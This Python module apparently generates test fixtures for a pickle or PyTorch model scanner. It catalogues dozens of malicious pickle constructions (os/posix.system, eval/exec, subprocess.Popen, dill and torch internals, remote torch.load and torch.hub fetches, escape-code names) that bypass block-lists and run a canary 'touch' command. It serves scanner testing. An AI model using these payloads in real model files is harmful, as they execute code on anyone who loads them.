"""Pickles that would run code, each by another way; the list of those that blind block-lists stands in hostile_globals.py,
damaged streams in hostile_stream.py.

Every command among them creates the canary. Sources: fickling's test_bypasses.py, picklescan's fixtures, dill, Marco
Slaviero's 'Sour Pickles' (2011), torch's own CVEs.
"""

import marshal

from pickle_bytes import (
    APPEND,
    BUILD,
    DICT,
    EMPTY_TUPLE,
    LIST,
    MARK,
    NEW,
    POP,
    REDUCE,
    SET_ITEM,
    call,
    framed,
    get,
    glob,
    new,
    number,
    pickle,
    put,
    storage,
    tensor,
    text,
    value,
)
from torch_bytes import TorchZip, legacy
from zoo import CANARY, Entry, Model, encoded, floats, tokenizer

TOUCH = "touch " + CANARY
PYTHON = f"open({CANARY!r}, 'w')"
SINGER = pickle(call("posix system", TOUCH))
CODE = marshal.dumps(compile(PYTHON, "zoo", "exec"))


def binary(content):
    return b"B" + len(content).to_bytes(4, "little") + content


def stack_global(module, name):
    return text(module) + text(name) + b"\x93"


def ways():
    """(name, op-codes of one value, words that the list of globals must hold, why)."""
    yield "reduce", call("posix system", TOUCH), "posix.system", "the textbook's"
    yield "reduce_os", call("os system", TOUCH), "os.system", "by the public name"
    yield "reduce_windows", call("nt system", TOUCH), "nt.system", "picklescan"
    yield "eval", call("builtins eval", PYTHON), "builtins.eval", "picklescan"
    yield "exec", call("builtins exec", PYTHON), "builtins.exec", "picklescan"
    yield "python_2", call("__builtin__ eval", PYTHON), "builtins.eval", "the module's old name"
    yield "compile", call("builtins exec", call("builtins compile", PYTHON, "zoo", "exec")), "builtins.compile", "two steps"
    yield "getattr_chain", call(
        call("builtins getattr", call("builtins __import__", "os"), "system"), TOUCH
    ), "builtins.getattr", "the callee is a result"
    yield "getattr_class", call(
        call("builtins getattr", glob("builtins", "dict"), "get"), call("builtins globals"), "x"
    ), "builtins.globals", "pain pickle"
    yield "import_module", call(
        call("builtins getattr", call("importlib import_module", "os"), "system"), TOUCH
    ), "importlib.import_module", "picklescan"
    yield "stack_global", stack_global("posix", "system") + value((TOUCH,)) + REDUCE, "posix.system", "protocol 4"
    yield "stack_global_memo", text("system") + put(9) + POP + text("posix") + get(9) + b"\x93" + value(
        (TOUCH,)
    ) + REDUCE, "posix.system", "the name comes from the memo"
    yield "stack_global_dotted", stack_global("torch", "serialization.os.system") + value(
        (TOUCH,)
    ) + REDUCE, "torch.serialization.os.system", "through a harmless module"
    yield "stack_global_class", stack_global(
        "collections", "OrderedDict.__init__.__globals__.get"
    ) + EMPTY_TUPLE + REDUCE, "collections.OrderedDict.__init__", "through a harmless class"
    yield "newobj", glob("subprocess", "Popen") + value((TOUCH.split(),)) + NEW, "subprocess.Popen", "__new__ and __init__"
    yield "newobj_ex", glob("subprocess", "Popen") + EMPTY_TUPLE + value(
        {"args": TOUCH, "shell": True}
    ) + b"\x92", "subprocess.Popen", "with keywords"
    yield "build_setstate", new("collections OrderedDict") + value(
        {"__setstate__": glob("posix", "system")}
    ) + BUILD, "posix.system", "BUILD plants the function"
    yield "build_dict", new("builtins object") + value(
        (None, {"__reduce__": glob("posix", "system")})
    ) + BUILD, "posix.system", "slots in the state"
    yield "build_torch", call("torch nn.Module") + value(
        {"forward": call("builtins eval", PYTHON)}
    ) + BUILD, "builtins.eval", "within a module's attributes"
    yield "append_to_call", call("collections deque") + MARK + call("posix system", TOUCH) + b"e", "posix.system", "extend()"
    yield "setitem_on_call", call("collections Counter") + text("k") + call(
        "posix system", TOUCH
    ) + SET_ITEM, "posix.system", "CVE-2026-24747: __setitem__ of anything"
    yield "default_factory", call("collections defaultdict", glob("posix", "system")), "posix.system", "called at the first look-up"
    yield "map", call("builtins list", call("builtins map", glob("posix", "system"), [TOUCH])), "builtins.map", "called by list()"
    yield "partial", call("functools partial", glob("posix", "system"), TOUCH), "functools.partial", "picklescan"
    yield "attrgetter", call(call("operator attrgetter", "system"), call("builtins __import__", "os")), "operator.attrgetter", "picklescan"
    yield "methodcaller", call(
        call("operator methodcaller", "system", TOUCH), call("builtins __import__", "os")
    ), "operator.methodcaller", "picklescan"
    yield "copyreg_reconstructor", call(
        "copyreg _reconstructor", glob("subprocess", "Popen"), glob("builtins", "object"), None
    ), "subprocess.Popen", "protocol 2's way to objects"
    yield "copyreg_newobj", call("copyreg __newobj__", glob("subprocess", "Popen"), TOUCH), "subprocess.Popen", ""
    yield "copyreg_extension", call("copyreg add_extension", "posix", "system", 1), "copyreg.add_extension", "prepares EXT1"
    yield "numpy_reconstruct", call("numpy.core.multiarray _reconstruct", glob("numpy", "ndarray"), (0,), binary(b"b")) + value(
        (1, (1,), call("numpy dtype", "O8", 0, 1), False, [call("posix system", TOUCH)])
    ) + BUILD, "posix.system", "an array of objects"
    yield "numpy_runstring", call(
        "numpy.testing._private.utils runstring", PYTHON, {}
    ), "numpy.testing._private.utils.runstring", "GHSA-fj43-3qmq-673f"
    yield "pickle_in_pickle", call("pickle loads", binary(SINGER)), "pickle.loads", "picklescan: nested"
    yield "c_pickle", call("cPickle loads", binary(SINGER)), "pickle.loads", "the old name"
    yield "load_from_bytes", call(
        "torch.storage _load_from_bytes", binary(SINGER)
    ), "refused: a storage was pickled inside the pickle", "allow-listed by fickling: a pickle within"
    yield "torch_load", call("torch load", "https://example.org/evil.pt"), "torch.load", "a file within a file"
    yield "torch_hub", call("torch.hub load", "evil/repo", "model"), "torch.hub.load", "fetches and runs a repository"
    yield "dotted_import", call("torch._utils _import_dotted_name", "os.system"), "torch._utils._import_dotted_name", "torch's own getattr"
    yield "rebuild_of_anything", call(
        "torch._tensor _rebuild_from_type_v2", glob("posix", "system"), glob("torch", "Tensor"), (TOUCH,), {}
    ), "refused: around what is no tensor", "calls its first argument"
    yield "hooks", call(
        "torch._utils _rebuild_parameter", call("builtins eval", PYTHON), True, call("collections OrderedDict")
    ), "refused: around what is no tensor", "the data of a Parameter is a call"
    yield "marshal", call(call("types FunctionType", call("marshal loads", binary(CODE)), DICT)), "marshal.loads", "code as bytes"
    yield "code_type", call(
        "types CodeType", 0, 0, 0, 0, 1, 64, binary(b"d\0S\0"), (None,), (), (), "f", "n", 1, binary(b"")
    ), "types.CodeType", "code in parts"
    yield "dill_filehandle", call(
        "dill._dill _create_filehandle", CANARY, "w", 0, False, False, 0, ""
    ), "dill._dill._create_filehandle", "opens, and creates, files"
    yield "dill_import", call("dill._dill _import_module", "antigravity", True), "dill._dill._import_module", "runs a module"
    yield "dill_eval_repr", call("dill._dill _eval_repr", PYTHON), "dill._dill._eval_repr", "eval by name"
    yield "dill_getattr", call(
        "dill._dill _getattr", glob("os", "path"), "system", "os.system"
    ), "dill._dill._getattr", "falls back to eval"
    yield "dill_unmarshal", call("dill._dill _unmarshal", binary(CODE)), "dill._dill._unmarshal", "code as bytes"
    yield "dill_capsule", call(
        "dill._dill _create_capsule", 1, "name", 0, 0
    ), "dill._dill._create_capsule", "a pointer of the file's choice"
    yield "dill_type", call(
        "dill._dill _create_type",
        call("dill._dill _load_type", "type"),
        "Evil",
        (glob("builtins", "object"),),
        {"__del__": glob("posix", "system")},
    ), "dill._dill._create_type", "a class by value"
    yield "dill_old_name", call("dill.dill _eval_repr", PYTHON), "dill._dill._eval_repr", "the module's old name"
    yield "cloudpickle", call("cloudpickle.cloudpickle subimport", "antigravity"), "cloudpickle.cloudpickle.subimport", "runs a module"
    yield "joblib", call("joblib.numpy_pickle load", CANARY), "joblib.numpy_pickle.load", "a file within a file"
    yield "popped", call("posix system", TOUCH) + POP + DICT, "posix.system", "the result is thrown away: only a tree would not show it"
    yield "popped_mark", MARK + call("posix system", TOUCH) + b"1" + DICT, "posix.system", "thrown away with its mark"
    yield "hidden_in_memo", call("posix system", TOUCH) + put(0) + POP + DICT, "posix.system", "kept in the memo alone"
    yield "key", DICT + call("posix system", TOUCH) + number(1) + SET_ITEM, "posix.system", "a dict's key"
    yield "argument_of_tensor", call(
        "torch._utils _rebuild_tensor_v2", call("posix system", TOUCH), 0, (1,), (1,), False, call("collections OrderedDict")
    ), "refused: a tensor has no storage", "where a storage should be"
    yield "callee_text", call(text("os.system"), TOUCH), "", "a text is called"
    yield "callee_cycle", LIST + put(0) + get(0) + value((TOUCH,)) + REDUCE + APPEND, "", "a list that holds a call of itself"
    yield "arguments_no_tuple", glob("posix", "system") + text(TOUCH) + REDUCE, "posix.system", "arguments that are no tuple"
    yield "name_escapes", glob("os\x1b[2J", "system\x07") + value((TOUCH,)) + REDUCE, "", "moves the cursor of who lists it"
    yield "name_latin", glob("p\xf6six", "\xff\xfe") + value((TOUCH,)) + REDUCE, "", "no UTF-8"
    yield "name_return", glob("posix", "system\r") + value((TOUCH,)) + REDUCE, "posix.system", "old readers strip it"
    yield "name_spaces", glob(" os ", " system ") + value((TOUCH,)) + REDUCE, "system", "old readers strip it"


def carriers():
    """A state dict whose weights are all right, with a call beside them, in every container."""
    weights = {"weight": tensor(b"%s", [2])}
    evil = weights | {"extra": call("posix system", TOUCH)}
    yield "in_zip", TorchZip().add("0", floats([1, 2])).bytes(
        TorchZip.dict_of(evil)
    ), "posix.system", "the list must reach into the archive"
    yield "in_zip_protocol_5", TorchZip().add("0", floats([1, 2])).bytes(
        TorchZip.dict_of(evil), protocol=5
    ), "posix.system", "weights_only refuses the protocol"
    yield "in_legacy", legacy(TorchZip.dict_of(evil, None), {"0": floats([1, 2])}), "posix.system", "a legacy stream"
    yield "in_keys_of_legacy", legacy(
        TorchZip.dict_of(weights, None), {"0": floats([1, 2])}, keys=call("posix system", TOUCH)
    ), "", "in another pickle of the stream"
    yield "in_system_of_legacy", legacy(
        TorchZip.dict_of(weights, None), {"0": floats([1, 2])}, system=call("posix system", TOUCH)
    ), "", "in another pickle of the stream"
    yield "in_source_of_legacy", legacy(
        value(
            {
                "weight": tensor(storage("0", 2, tail=(None,)), [2]),
                "m": value(("module", glob("evil", "Module"), "../evil.py", "import os")) + b"Q",
            }
        ),
        {"0": floats([1, 2])},
    ), "evil.Module", "old torch wrote a .patch file beside it"


def entries():
    for name, body, listed, why in ways():
        refused = listed.startswith("refused: ")  # what calls itself a tensor and is none
        yield Entry(
            f"pickle_{name}.pkl",
            pickle(body),
            (listed.removeprefix("refused: ") if refused else "",),
            inspect="either",
            offset=True,
            why=why,
            torch="refused" if refused else (listed,),
        )
    yield Entry(
        "pickle_framed.pkl",
        framed(call("posix system", TOUCH)),
        ("",),
        inspect="either",
        why="protocol 4",
        torch=("posix.system", "dangerous"),
    )
    for name, content, listed, why in carriers():
        yield Entry(f"pickle_{name}.pt", content, ("",), inspect="either", why=why, torch=(listed,) if listed else "refused")
    model = Model()
    state = TorchZip()
    tensors = {name: state.tensor(shape, content) for name, (shape, content) in model.tensors().items()}
    evil = state.bytes(TorchZip.dict_of(tensors | {"extra": call("posix system", TOUCH)}))
    yield Entry(
        "pickle_in_folder",
        {"config.json": encoded(model.config), "tokenizer.json": encoded(tokenizer()), "pytorch_model.bin": evil},
        ("",),
        inspect="either",
        why="a whole model with a call beside its weights",
    )
